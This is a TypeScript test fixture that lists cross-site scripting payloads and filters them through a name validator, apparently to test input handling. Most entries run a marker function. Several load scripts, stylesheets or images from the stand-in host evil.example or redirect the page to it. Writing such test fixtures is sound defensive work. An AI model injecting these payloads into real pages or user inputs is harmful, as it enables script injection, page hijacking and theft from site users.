import { Name } from "@facet/contracts/names";

/**
 * Texts that become code where a page treats them as more than text. Each calls `xss` when it runs, or asks another host,
 * or leaves the page. Short enough for a name.
 */
export const scriptPayloads: readonly string[] = [
  // Elements
  "<script>xss()</script>",
  "<ScRiPt>xss()</sCrIpT>",
  "<script src=//evil.example/x.js></script>",
  "</script><script>xss()</script>",
  "</title><script>xss()</script>",
  "</textarea><script>xss()</script>",
  "</style><script>xss()</script>",
  "--><script>xss()</script><!--",
  "]]><script>xss()</script>",
  "<scr<script>ipt>xss()</scr</script>ipt>",
  "<style>@import '//evil.example/x.css';</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<iframe src=javascript:xss()></iframe>",
  "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
  "<object data=javascript:xss()></object>",
  "<embed src=javascript:xss()>",
  "<form action=javascript:xss()><button autofocus>go</button></form>",
  "<math><mi xlink:href=javascript:xss()>x</mi></math>",
  // Attributes and what sets them off
  "<img src=x onerror=xss()>",
  '"><img src=x onerror=xss()>',
  "'><img src=x onerror=xss()>",
  "<IMG SRC=x OnErRoR=xss()>",
  "<img/src=x/onerror=xss()>",
  "<img src=//evil.example/p.png>",
  "<svg onload=xss()>",
  "<svg/onload=xss()>",
  "<svg><script>xss()</script></svg>",
  "<svg><animate onbegin=xss() attributeName=x dur=1s>",
  "<body onload=xss()>",
  "<details open ontoggle=xss()>x</details>",
  "<input autofocus onfocus=xss()>",
  "<video><source onerror=xss()></video>",
  "<audio src=x onerror=xss()>",
  "<div style=animation:spin onanimationstart=xss()>x</div>",
  '" autofocus onfocus="xss()',
  "' onmouseover='xss()",
  "` onload=`xss()",
  // Addresses and marks of other languages
  "javascript:xss()",
  "JaVaScRiPt:xss()//",
  "data:text/html,<script>xss()</script>",
  "[press](javascript:xss())",
  "![picture](//evil.example/p.png)",
  "<javascript:xss()>",
  "{{constructor.constructor('xss()')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it must not be a template here.
  "${xss()}",
  "#{xss()}",
  "<%= xss() %>",
  "';xss();//",
  '";xss();//',
  "\\u003cscript\\u003exss()\\u003c/script\\u003e",
  "&lt;script&gt;xss()&lt;/script&gt;",
  "&#60;script&#62;xss()&#60;/script&#62;",
  "%3Cscript%3Exss()%3C/script%3E",
  "+ADw-script+AD4-xss()+ADw-/script+AD4-",
  "\u202e<script>xss()</script>",
  "=HYPERLINK(xss())",
];

/** Those that a thing may be called: what hides or turns text round is refused. */
export const namePayloads = scriptPayloads.filter((payload) => Name.safeParse(payload).success);

/** Payloads that may be names joined by spaces into as few texts of at most `longest` characters as their order allows. */
export function packPayloads(longest: number): readonly string[] {
  const packs: string[] = [];
  for (const payload of namePayloads) {
    const joined = `${packs.at(-1) ?? ""} ${payload}`;
    if (packs.length > 0 && joined.length <= longest) packs[packs.length - 1] = joined;
    else packs.push(payload);
  }
  return packs;
}
